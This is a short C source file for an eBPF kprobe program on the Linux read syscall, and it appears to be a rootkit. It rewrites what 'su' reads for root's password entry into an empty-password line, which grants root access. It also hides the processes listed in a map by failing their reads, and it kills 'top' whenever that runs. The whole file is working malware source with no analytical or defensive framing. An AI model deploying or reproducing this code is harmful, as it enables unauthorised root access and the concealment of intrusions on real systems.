#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_endian.h>
#define __TARGET_ARCH_x86
#include <asm/ptrace.h>
#include <bpf/bpf_tracing.h>
struct { __uint(type, BPF_MAP_TYPE_HASH); __type(key, __u32); __type(value, __u32); __uint(max_entries, 16); } hidden SEC(".maps");
static const char line[] = "root::0:0:::";

SEC("kprobe/__x64_sys_read") int intruder(struct pt_regs *ctx)
{
    char comm[16], head[8];
    bpf_get_current_comm(comm, 16);
    if (comm[0] == 's' && comm[1] == 'u' && comm[2] == 0) {
        void *buffer = (void *)PT_REGS_PARM2(ctx);
        bpf_probe_read_user(head, 4, buffer);
        if (head[0] == 'r' && head[1] == 'o' && head[2] == 'o' && head[3] == 't')
            bpf_probe_write_user(buffer, line, 12);
    }
    __u32 pid = bpf_get_current_pid_tgid() >> 32;
    if (bpf_map_lookup_elem(&hidden, &pid))
        bpf_override_return(ctx, -2);
    if (comm[0] == 't' && comm[1] == 'o' && comm[2] == 'p' && comm[3] == 0)
        bpf_send_signal(9);
    return 0;
}
char _license[] SEC("license") = "GPL";
